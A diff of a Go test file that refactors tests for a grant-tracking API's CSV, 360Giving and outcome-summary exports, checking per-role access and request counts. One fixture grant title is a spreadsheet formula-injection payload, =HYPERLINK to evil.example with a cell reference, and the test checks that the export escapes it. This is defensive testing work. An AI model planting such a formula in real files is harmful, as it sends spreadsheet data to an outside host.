@@ -1,200 +1,44 @@
 package httpapi_test
 
-// Tests of the exports (issue #5) through HTTP: every httpapi.Function
-// mounted on one mux as infra/runner mounts them, over a fresh DynamoDB
-// Local table, with a 360Giving prefix configured as FUNDTRACK_360_PREFIX
-// would configure it. Names start with "ex" so they never meet the names of
-// the other API tests in this package; the harness is its own so it can
-// count DynamoDB requests and set the prefix.
+// Tests of the exports (issue #5) through HTTP, run by the package's harness
+// (api_harness_test.go) over a fresh DynamoDB Local table whose client
+// counts the DynamoDB requests it makes, with a 360Giving prefix configured
+// as FUNDTRACK_360_PREFIX would configure it. Names start with "ex".
 
 import (
 	"bytes"
-	"context"
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
-	"io"
-	"log/slog"
 	"net/http"
-	"net/http/httptest"
-	"net/url"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
 	"sync"
-	"sync/atomic"
 	"testing"
 	"time"
 
-	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
-	"github.com/aws/smithy-go/middleware"
 	"github.com/santhosh-tekuri/jsonschema/v6"
 
-	"github.com/fundtrack/fundtrack/shared/auth"
-	"github.com/fundtrack/fundtrack/shared/domain"
-	"github.com/fundtrack/fundtrack/shared/httpapi"
 	"github.com/fundtrack/fundtrack/shared/platform"
 	"github.com/fundtrack/fundtrack/shared/testenv"
 )
 
-const (
-	exSecret = "exports-test-secret"
-	exPrefix = "ftk-test" // the configured 360Giving prefix
-
-	exAdmin    = "ex-admin@example.org"    // group admins, no membership
-	exLead     = "ex-lead@example.org"     // lead of P
-	exPLA      = "ex-pl-a@example.org"     // project-lead of A
-	exPLB      = "ex-pl-b@example.org"     // project-lead of B
-	exFunderX  = "ex-funder-x@example.org" // funder X of P
-	exFunderY  = "ex-funder-y@example.org" // funder Y of P
-	exFunderN  = "ex-funder-n@example.org" // funder N of P, which has no grants
-	exOutsider = "ex-outsider@example.org" // no membership anywhere
-	exLeadQ    = "ex-lead-q@example.org"   // lead of the other programme Q only
-)
+// exPrefix is the configured 360Giving prefix.
+const exPrefix = "ftk-test"
 
 // exAPI is the API over one table, counting the DynamoDB requests it makes.
 type exAPI struct {
-	url      string
-	client   *http.Client
-	counting atomic.Bool
-	requests atomic.Int64
-	logs     bytes.Buffer
-	logsMu   sync.Mutex
-}
-
-func (a *exAPI) Write(p []byte) (int, error) {
-	a.logsMu.Lock()
-	defer a.logsMu.Unlock()
-	return a.logs.Write(p)
+	*apiH
+	counter *dbCounter
 }
 
 func exNew(t *testing.T) *exAPI {
 	t.Helper()
-	a := &exAPI{}
-	count := func(o *dynamodb.Options) {
-		o.APIOptions = append(o.APIOptions, func(s *middleware.Stack) error {
-			return s.Initialize.Add(middleware.InitializeMiddlewareFunc("exCount",
-				func(ctx context.Context, in middleware.InitializeInput, next middleware.InitializeHandler) (middleware.InitializeOutput, middleware.Metadata, error) {
-					if a.counting.Load() {
-						a.requests.Add(1)
-					}
-					return next.HandleInitialize(ctx, in)
-				}), middleware.After)
-		})
-	}
-	db, table := testenv.TableWith(t, count)
-	deps := platform.APIDeps(platform.Config{Table: table, GivingPrefix: exPrefix}, db,
-		auth.Local{Secret: []byte(exSecret), Issuer: auth.LocalIssuer})
-	deps.Logger = slog.New(slog.NewTextHandler(a, nil))
-	// Mounted as the local runner mounts them (API Gateway routes by route in AWS).
-	srv := httptest.NewServer(httpapi.Mount(httpapi.Functions(deps)))
-	tr := &http.Transport{MaxIdleConnsPerHost: 32}
-	a.client = &http.Client{Transport: tr, Timeout: 60 * time.Second}
-	a.url = srv.URL
-	t.Cleanup(func() {
-		tr.CloseIdleConnections()
-		srv.Close()
-		if t.Failed() {
-			a.logsMu.Lock()
-			t.Logf("server log:\n%s", a.logs.String())
-			a.logsMu.Unlock()
-		}
-	})
-	return a
-}
-
-type exResp struct {
-	Status int
-	Header http.Header
-	Body   []byte
-}
-
-func (r exResp) String() string { return fmt.Sprintf("%d %s", r.Status, bytes.TrimSpace(r.Body)) }
-
-// send makes one request as the user as ("" sends no token); body nil sends
-// none, anything else goes as JSON. Safe from any goroutine.
-func (a *exAPI) send(method, path, as string, body any) (exResp, error) {
-	var rd io.Reader
-	if body != nil {
-		raw, err := json.Marshal(body)
-		if err != nil {
-			return exResp{}, err
-		}
-		rd = bytes.NewReader(raw)
-	}
-	req, err := http.NewRequest(method, a.url+path, rd)
-	if err != nil {
-		return exResp{}, err
-	}
-	if body != nil {
-		req.Header.Set("Content-Type", "application/json")
-	}
-	if as != "" {
-		var groups []string
-		if as == exAdmin {
-			groups = []string{domain.AdminGroup}
-		}
-		tok, err := auth.MintLocal([]byte(exSecret), as, "", groups, time.Hour, time.Now())
-		if err != nil {
-			return exResp{}, err
-		}
-		req.Header.Set("Authorization", "Bearer "+tok)
-	}
-	res, err := a.client.Do(req)
-	if err != nil {
-		return exResp{}, err
-	}
-	defer res.Body.Close()
-	raw, err := io.ReadAll(res.Body)
-	return exResp{Status: res.StatusCode, Header: res.Header, Body: raw}, err
-}
-
-func (a *exAPI) want(t *testing.T, status int, method, path, as string, body any) exResp {
-	t.Helper()
-	r, err := a.send(method, path, as, body)
-	if err != nil {
-		t.Fatalf("%s %s: %v", method, path, err)
-	}
-	if r.Status != status {
-		t.Fatalf("%s %s as %q: got %s, want %d", method, path, as, r, status)
-	}
-	return r
-}
-
-func (a *exAPI) create(t *testing.T, as, path string, body any) string {
-	t.Helper()
-	r := a.want(t, http.StatusCreated, "POST", path, as, body)
-	var v struct {
-		ID string `json:"id"`
-	}
-	if err := json.Unmarshal(r.Body, &v); err != nil || !domain.ValidID(v.ID) {
-		t.Fatalf("POST %s: no id in %s", path, r)
-	}
-	return v.ID
-}
-
-func (a *exAPI) member(t *testing.T, programme, email string, role map[string]string) {
-	t.Helper()
-	r, err := a.send("PUT", "/programmes/"+programme+"/members/"+url.PathEscape(email), exAdmin, map[string]any{"roles": []any{role}})
-	if err != nil || (r.Status != http.StatusCreated && r.Status != http.StatusOK) {
-		t.Fatalf("PUT member %s: %v %s", email, err, r)
-	}
-}
-
-// wantError checks an answer is the SPEC's error shape with this status and code.
-func exWantError(t *testing.T, r exResp, status int, code string) {
-	t.Helper()
-	var body struct {
-		Error struct {
-			Code    string `json:"code"`
-			Message string `json:"message"`
-		} `json:"error"`
-	}
-	if r.Status != status || !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") ||
-		json.Unmarshal(r.Body, &body) != nil || body.Error.Code != code || body.Error.Message == "" {
-		t.Fatalf("got %s (Content-Type %q), want a %d %s error", r, r.Header.Get("Content-Type"), status, code)
-	}
+	counter := &dbCounter{ops: map[string]int{}}
+	db, table := testenv.TableWith(t, counter.option)
+	return &exAPI{apiH: startAPI(t, apiOptions{db: db, table: table, config: platform.Config{GivingPrefix: exPrefix}}), counter: counter}
 }
 
 // exWorld is the fixture, made as admin:
@@ -203,7 +47,7 @@ func exWantError(t *testing.T, r exResp, status int, code string) {
 //	  (no grants); projects A, B; grants X→A (a title trying formula
 //	  injection), Y→B, X→P (the whole programme);
 //	  members lead, pl-a (A), pl-b (B), funder-x (X), funder-y (Y), funder-n (N).
-//	Q: funder Z, project C, grant Z→C; member lead-q (lead).
+//	Q: funder Z, project C, grant Z→C; member lead2@ (lead).
 type exWorld struct {
 	P, X, Y, N, A, B string
 	GXA, GYB, GXP    string
@@ -230,27 +74,27 @@ func exSetup(t *testing.T, a *exAPI) *exWorld {
 		return g
 	}
 	pp := func(rest string) string { return "/programmes/" + w.P + rest }
-	w.P = a.create(t, exAdmin, "/programmes", prog("Working for Wellness", "Leicestershire Partnership NHS Trust"))
-	w.X = a.create(t, exAdmin, pp("/funders"), map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-DWP", "contacts": []string{"grants@x.example.org"}})
-	w.Y = a.create(t, exAdmin, pp("/funders"), map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}})
-	w.N = a.create(t, exAdmin, pp("/funders"), map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}})
-	w.A = a.create(t, exAdmin, pp("/projects"), project("IPS Bradford", "Bradford District Care NHS FT"))
-	w.B = a.create(t, exAdmin, pp("/projects"), project("Aspiro internships", "Aspiro CIC"))
-	w.GXA = a.create(t, exAdmin, pp("/grants"), grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
-	w.GYB = a.create(t, exAdmin, pp("/grants"), grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31"))
-	w.GXP = a.create(t, exAdmin, pp("/grants"), grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31"))
-	a.member(t, w.P, exLead, map[string]string{"role": "lead"})
-	a.member(t, w.P, exPLA, map[string]string{"role": "project-lead", "projectId": w.A})
-	a.member(t, w.P, exPLB, map[string]string{"role": "project-lead", "projectId": w.B})
-	a.member(t, w.P, exFunderX, map[string]string{"role": "funder", "funderId": w.X})
-	a.member(t, w.P, exFunderY, map[string]string{"role": "funder", "funderId": w.Y})
-	a.member(t, w.P, exFunderN, map[string]string{"role": "funder", "funderId": w.N})
+	w.P, _ = a.create(t, uAdmin, "/programmes", prog("Working for Wellness", "Leicestershire Partnership NHS Trust"))
+	w.X, _ = a.create(t, uAdmin, pp("/funders"), map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-DWP", "contacts": []string{"grants@x.example.org"}})
+	w.Y, _ = a.create(t, uAdmin, pp("/funders"), map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}})
+	w.N, _ = a.create(t, uAdmin, pp("/funders"), map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}})
+	w.A, _ = a.create(t, uAdmin, pp("/projects"), project("IPS Bradford", "Bradford District Care NHS FT"))
+	w.B, _ = a.create(t, uAdmin, pp("/projects"), project("Aspiro internships", "Aspiro CIC"))
+	w.GXA, _ = a.create(t, uAdmin, pp("/grants"), grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
+	w.GYB, _ = a.create(t, uAdmin, pp("/grants"), grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31"))
+	w.GXP, _ = a.create(t, uAdmin, pp("/grants"), grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31"))
+	a.putMember(t, w.P, uLead, roleLead())
+	a.putMember(t, w.P, uPLA, rolePL(w.A))
+	a.putMember(t, w.P, uPLB, rolePL(w.B))
+	a.putMember(t, w.P, uFunderX, roleFunder(w.X))
+	a.putMember(t, w.P, uFunderY, roleFunder(w.Y))
+	a.putMember(t, w.P, uFunderN, roleFunder(w.N))
 
-	w.Q = a.create(t, exAdmin, "/programmes", prog("Another network", "Another Trust"))
-	z := a.create(t, exAdmin, "/programmes/"+w.Q+"/funders", map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}})
-	c := a.create(t, exAdmin, "/programmes/"+w.Q+"/projects", project("Project C", "C Trust"))
-	w.GZC = a.create(t, exAdmin, "/programmes/"+w.Q+"/grants", grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
-	a.member(t, w.Q, exLeadQ, map[string]string{"role": "lead"})
+	w.Q, _ = a.create(t, uAdmin, "/programmes", prog("Another network", "Another Trust"))
+	z, _ := a.create(t, uAdmin, "/programmes/"+w.Q+"/funders", map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}})
+	c, _ := a.create(t, uAdmin, "/programmes/"+w.Q+"/projects", project("Project C", "C Trust"))
+	w.GZC, _ = a.create(t, uAdmin, "/programmes/"+w.Q+"/grants", grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
+	a.putMember(t, w.Q, uLead2, roleLead())
 	return w
 }
 
@@ -259,7 +103,7 @@ func (w *exWorld) pp(rest string) string { return "/programmes/" + w.P + rest }
 const exGrantsHeader = "Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"
 
 // exCSV checks a CSV download's headers and returns its rows (header first).
-func exCSV(t *testing.T, r exResp, filename string) [][]string {
+func exCSV(t *testing.T, r apiResp, filename string) [][]string {
 	t.Helper()
 	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
 		t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
@@ -290,7 +134,7 @@ func TestExportGrantsCSV(t *testing.T) {
 	w := exSetup(t, a)
 
 	t.Run("exact content for a lead", func(t *testing.T) {
-		r := a.want(t, http.StatusOK, "GET", w.pp("/grants.csv"), exLead, nil)
+		r := a.want(t, http.StatusOK, rq("GET", w.pp("/grants.csv"), uLead, nil))
 		exCSV(t, r, "working-for-wellness-grants.csv")
 		want := "\ufeff" + exGrantsHeader +
 			w.GXA + `,"'=HYPERLINK(""http://evil.example/?""&A1,""£ details"")",Department for Work and Pensions,GB-GOR-DWP,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31` + "\r\n" +
@@ -305,7 +149,7 @@ func TestExportGrantsCSV(t *testing.T) {
 	})
 
 	t.Run("formula injection is escaped", func(t *testing.T) {
-		rows := exCSV(t, a.want(t, http.StatusOK, "GET", w.pp("/grants.csv"), exLead, nil), "working-for-wellness-grants.csv")
+		rows := exCSV(t, a.want(t, http.StatusOK, rq("GET", w.pp("/grants.csv"), uLead, nil)), "working-for-wellness-grants.csv")
 		if got := rows[1][1]; got != "'"+exInjection {
 			t.Fatalf("title cell %q, want the formula behind an apostrophe", got)
 		}
@@ -323,15 +167,15 @@ func TestExportGrantsCSV(t *testing.T) {
 			as   string
 			want []string
 		}{
-			{exAdmin, []string{w.GXA, w.GYB, w.GXP}},
-			{exLead, []string{w.GXA, w.GYB, w.GXP}},
-			{exFunderX, []string{w.GXA, w.GXP}},
-			{exFunderY, []string{w.GYB}},
-			{exPLA, []string{w.GXA}},
-			{exPLB, []string{w.GYB}},
-			{exFunderN, nil},
+			{uAdmin, []string{w.GXA, w.GYB, w.GXP}},
+			{uLead, []string{w.GXA, w.GYB, w.GXP}},
+			{uFunderX, []string{w.GXA, w.GXP}},
+			{uFunderY, []string{w.GYB}},
+			{uPLA, []string{w.GXA}},
+			{uPLB, []string{w.GYB}},
+			{uFunderN, nil},
 		} {
-			rows := exCSV(t, a.want(t, http.StatusOK, "GET", w.pp("/grants.csv"), tc.as, nil), "working-for-wellness-grants.csv")
+			rows := exCSV(t, a.want(t, http.StatusOK, rq("GET", w.pp("/grants.csv"), tc.as, nil)), "working-for-wellness-grants.csv")
 			if got := exColumn(rows, 0); !slices.Equal(got, tc.want) {
 				t.Errorf("%s sees grants %v, want %v", tc.as, got, tc.want)
 			}
@@ -339,14 +183,14 @@ func TestExportGrantsCSV(t *testing.T) {
 				t.Errorf("%s: header %q", tc.as, rows[0])
 			}
 		}
-		for _, as := range []string{exOutsider, exLeadQ} {
-			r, _ := a.send("GET", w.pp("/grants.csv"), as, nil)
-			exWantError(t, r, http.StatusNotFound, "not_found")
+		for _, as := range []string{uOutsider, uLead2} {
+			r, _ := a.send(rq("GET", w.pp("/grants.csv"), as, nil))
+			wantErr(t, r, http.StatusNotFound, "not_found")
 		}
-		r, _ := a.send("GET", w.pp("/grants.csv"), "", nil)
-		exWantError(t, r, http.StatusUnauthorized, "unauthenticated")
-		r, _ = a.send("GET", "/programmes/not-an-id/grants.csv", exAdmin, nil)
-		exWantError(t, r, http.StatusNotFound, "not_found")
+		r, _ := a.send(rq("GET", w.pp("/grants.csv"), "", nil))
+		wantErr(t, r, http.StatusUnauthorized, "unauthenticated")
+		r, _ = a.send(rq("GET", "/programmes/not-an-id/grants.csv", uAdmin, nil))
+		wantErr(t, r, http.StatusNotFound, "not_found")
 	})
 }
 
@@ -460,7 +304,7 @@ func TestExportGrants360Giving(t *testing.T) {
 
 	get := func(t *testing.T, as string) exPackage {
 		t.Helper()
-		r := a.want(t, http.StatusOK, "GET", w.pp("/grants/360giving"), as, nil)
+		r := a.want(t, http.StatusOK, rq("GET", w.pp("/grants/360giving"), as, nil))
 		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
 			t.Fatalf("Content-Type %q", ct)
 		}
@@ -475,7 +319,7 @@ func TestExportGrants360Giving(t *testing.T) {
 	}
 
 	t.Run("valid and complete for a lead", func(t *testing.T) {
-		p := get(t, exLead)
+		p := get(t, uLead)
 		if p.Version != "1.4" || p.Publisher.Name != "Leicestershire Partnership NHS Trust" {
 			t.Errorf("package metadata: version %q publisher %+v", p.Version, p.Publisher)
 		}
@@ -514,32 +358,32 @@ func TestExportGrants360Giving(t *testing.T) {
 			as   string
 			want []string
 		}{
-			{exAdmin, []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}},
-			{exFunderX, []string{gid(w.GXA), gid(w.GXP)}},
-			{exFunderY, []string{gid(w.GYB)}},
-			{exPLA, []string{gid(w.GXA)}},
-			{exPLB, []string{gid(w.GYB)}},
+			{uAdmin, []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}},
+			{uFunderX, []string{gid(w.GXA), gid(w.GXP)}},
+			{uFunderY, []string{gid(w.GYB)}},
+			{uPLA, []string{gid(w.GXA)}},
+			{uPLB, []string{gid(w.GYB)}},
 		} {
 			if got := exGivingIDs(get(t, tc.as)); !slices.Equal(got, tc.want) {
 				t.Errorf("%s sees %v, want %v", tc.as, got, tc.want)
 			}
 		}
-		for _, as := range []string{exOutsider, exLeadQ} {
-			r, _ := a.send("GET", w.pp("/grants/360giving"), as, nil)
-			exWantError(t, r, http.StatusNotFound, "not_found")
+		for _, as := range []string{uOutsider, uLead2} {
+			r, _ := a.send(rq("GET", w.pp("/grants/360giving"), as, nil))
+			wantErr(t, r, http.StatusNotFound, "not_found")
 		}
 		// A member who may read no grant: 360Giving needs at least one.
-		r, _ := a.send("GET", w.pp("/grants/360giving"), exFunderN, nil)
-		exWantError(t, r, http.StatusNotFound, "not_found")
+		r, _ := a.send(rq("GET", w.pp("/grants/360giving"), uFunderN, nil))
+		wantErr(t, r, http.StatusNotFound, "not_found")
 	})
 
 	t.Run("a grant id is not shadowed", func(t *testing.T) {
 		// The literal route sits beside GET …/grants/{grantId}; grants still read.
-		a.want(t, http.StatusOK, "GET", w.pp("/grants/"+w.GXA), exLead, nil)
+		a.want(t, http.StatusOK, rq("GET", w.pp("/grants/"+w.GXA), uLead, nil))
 	})
 
 	t.Run("the schema check bites", func(t *testing.T) {
-		r := a.want(t, http.StatusOK, "GET", w.pp("/grants/360giving"), exLead, nil)
+		r := a.want(t, http.StatusOK, rq("GET", w.pp("/grants/360giving"), uLead, nil))
 		var p map[string]any
 		if err := json.Unmarshal(r.Body, &p); err != nil {
 			t.Fatal(err)
@@ -559,11 +403,11 @@ func TestExportGrants360Giving(t *testing.T) {
 // (the programme's grants) and a funder (the funder index).
 func TestExportPagesThroughEveryGrant(t *testing.T) {
 	a := exNew(t)
-	p := a.create(t, exAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
+	p, _ := a.create(t, uAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
 		"startDate": "2025-01-01", "endDate": "2027-12-31"})
-	f := a.create(t, exAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
-	a.member(t, p, exLead, map[string]string{"role": "lead"})
-	a.member(t, p, exFunderX, map[string]string{"role": "funder", "funderId": f})
+	f, _ := a.create(t, uAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
+	a.putMember(t, p, uLead, roleLead())
+	a.putMember(t, p, uFunderX, roleFunder(f))
 	const n = 120
 	ids := make([]string, n)
 	var wg sync.WaitGroup
@@ -575,8 +419,8 @@ func TestExportPagesThroughEveryGrant(t *testing.T) {
 			defer wg.Done()
 			sem <- struct{}{}
 			defer func() { <-sem }()
-			r, err := a.send("POST", "/programmes/"+p+"/grants", exAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
-				"amountPence": 100 + i, "currency": "GBP", "awardDate": "2025-01-15", "startDate": "2025-02-01", "endDate": "2026-01-31"})
+			r, err := a.send(rq("POST", "/programmes/"+p+"/grants", uAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
+				"amountPence": 100 + i, "currency": "GBP", "awardDate": "2025-01-15", "startDate": "2025-02-01", "endDate": "2026-01-31"}))
 			if err != nil || r.Status != http.StatusCreated {
 				errs <- fmt.Errorf("grant %d: %v %s", i, err, r)
 				return
@@ -592,12 +436,12 @@ func TestExportPagesThroughEveryGrant(t *testing.T) {
 		t.Fatal(err)
 	}
 	slices.Sort(ids) // lists come oldest first: ids sort by creation time
-	for _, as := range []string{exLead, exFunderX} {
-		rows := exCSV(t, a.want(t, http.StatusOK, "GET", "/programmes/"+p+"/grants.csv", as, nil), "big-programme-grants.csv")
+	for _, as := range []string{uLead, uFunderX} {
+		rows := exCSV(t, a.want(t, http.StatusOK, rq("GET", "/programmes/"+p+"/grants.csv", as, nil)), "big-programme-grants.csv")
 		if got := exColumn(rows, 0); !slices.Equal(got, ids) {
 			t.Errorf("%s: CSV has %d grants, want all %d in order", as, len(got), n)
 		}
-		r := a.want(t, http.StatusOK, "GET", "/programmes/"+p+"/grants/360giving", as, nil)
+		r := a.want(t, http.StatusOK, rq("GET", "/programmes/"+p+"/grants/360giving", as, nil))
 		var pkg exPackage
 		if err := json.Unmarshal(r.Body, &pkg); err != nil {
 			t.Fatal(err)
@@ -618,26 +462,26 @@ func TestExportOutcomeSummary(t *testing.T) {
 	w := exSetup(t, a)
 	outcome := func(t *testing.T, as, project string, counts map[string]int64) {
 		t.Helper()
-		a.create(t, as, w.pp("/projects/"+project+"/outcomes"), map[string]any{"periodStart": "2025-04-01", "periodEnd": "2025-06-30", "counts": counts})
+		a.create(t, as, w.pp("/projects/"+project+"/outcomes"), outcomeBody(counts))
 	}
-	summary := func(t *testing.T, as string) exResp {
+	summary := func(t *testing.T, as string) apiResp {
 		t.Helper()
-		return a.want(t, http.StatusOK, "GET", w.pp("/outcomes/summary.csv"), as, nil)
+		return a.want(t, http.StatusOK, rq("GET", w.pp("/outcomes/summary.csv"), as, nil))
 	}
 	header := "\ufeffProject,Referrals,People into work,Job starts,Sustained jobs (13 weeks),Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n"
 
 	t.Run("before any submission", func(t *testing.T) {
 		want := header + "IPS Bradford,0,0,0,0,0,0,0,0\r\nAspiro internships,0,0,0,0,0,0,0,0\r\nProgramme total,0,0,0,0,0,0,0,0\r\n"
-		if got := string(summary(t, exLead).Body); got != want {
+		if got := string(summary(t, uLead).Body); got != want {
 			t.Fatalf("summary:\n got %q\nwant %q", got, want)
 		}
 	})
 
 	// A: referrals 12, into work 7, job starts 8, sustained 1.
 	// B: referrals 13, into work 1, interns enrolled 4.
-	outcome(t, exPLA, w.A, map[string]int64{"referrals": 10, "peopleIntoWork": 7, "jobStarts": 8})
-	outcome(t, exPLA, w.A, map[string]int64{"referrals": 2, "sustainedJobs13Weeks": 1})
-	outcome(t, exPLB, w.B, map[string]int64{"referrals": 13, "peopleIntoWork": 1, "internsEnrolled": 4})
+	outcome(t, uPLA, w.A, map[string]int64{"referrals": 10, "peopleIntoWork": 7, "jobStarts": 8})
+	outcome(t, uPLA, w.A, map[string]int64{"referrals": 2, "sustainedJobs13Weeks": 1})
+	outcome(t, uPLB, w.B, map[string]int64{"referrals": 13, "peopleIntoWork": 1, "internsEnrolled": 4})
 
 	// Totals 25, 8, 8, 1, 0, 0, 4, 0: controlled from the true totals, so
 	// people into work is 8 → 10 though both projects' figures are "*".
@@ -647,38 +491,37 @@ func TestExportOutcomeSummary(t *testing.T) {
 		"Programme total,25,10,10,*,0,0,*,0\r\n"
 
 	t.Run("every member reads the same controlled figures", func(t *testing.T) {
-		for _, as := range []string{exAdmin, exLead, exPLA, exPLB, exFunderX, exFunderY, exFunderN} {
+		for _, as := range []string{uAdmin, uLead, uPLA, uPLB, uFunderX, uFunderY, uFunderN} {
 			r := summary(t, as)
 			exCSV(t, r, "working-for-wellness-outcomes-summary.csv")
 			if string(r.Body) != want {
 				t.Errorf("summary as %s:\n got %q\nwant %q", as, r.Body, want)
 			}
 		}
-		for _, as := range []string{exOutsider, exLeadQ} {
-			r, _ := a.send("GET", w.pp("/outcomes/summary.csv"), as, nil)
-			exWantError(t, r, http.StatusNotFound, "not_found")
+		for _, as := range []string{uOutsider, uLead2} {
+			r, _ := a.send(rq("GET", w.pp("/outcomes/summary.csv"), as, nil))
+			wantErr(t, r, http.StatusNotFound, "not_found")
 		}
-		r, _ := a.send("GET", w.pp("/outcomes/summary.csv"), "", nil)
-		exWantError(t, r, http.StatusUnauthorized, "unauthenticated")
+		r, _ := a.send(rq("GET", w.pp("/outcomes/summary.csv"), "", nil))
+		wantErr(t, r, http.StatusUnauthorized, "unauthenticated")
 	})
 
 	t.Run("a fixed few requests however many submissions", func(t *testing.T) {
-		count := func() int64 {
-			a.requests.Store(0)
-			a.counting.Store(true)
-			summary(t, exLead)
-			a.counting.Store(false)
-			return a.requests.Load()
+		count := func() int {
+			a.counter.start()
+			summary(t, uLead)
+			n, _ := a.counter.stop()
+			return n
 		}
 		before := count()
 		for range 20 {
-			outcome(t, exPLB, w.B, map[string]int64{"trainingStarts": 1})
+			outcome(t, uPLB, w.B, map[string]int64{"trainingStarts": 1})
 		}
 		after := count()
 		if before != after || after > 4 {
 			t.Fatalf("summary took %d DynamoDB requests, then %d after 20 more submissions; want the same few (≤ 4)", before, after)
 		}
-		if got := string(summary(t, exLead).Body); !strings.Contains(got, "Aspiro internships,15,*,0,0,0,20,*,0\r\n") || !strings.Contains(got, "Programme total,25,10,10,*,0,20,*,0\r\n") {
+		if got := string(summary(t, uLead).Body); !strings.Contains(got, "Aspiro internships,15,*,0,0,0,20,*,0\r\n") || !strings.Contains(got, "Programme total,25,10,10,*,0,20,*,0\r\n") {
 			t.Fatalf("after 20 training starts:\n%s", got)
 		}
 	})
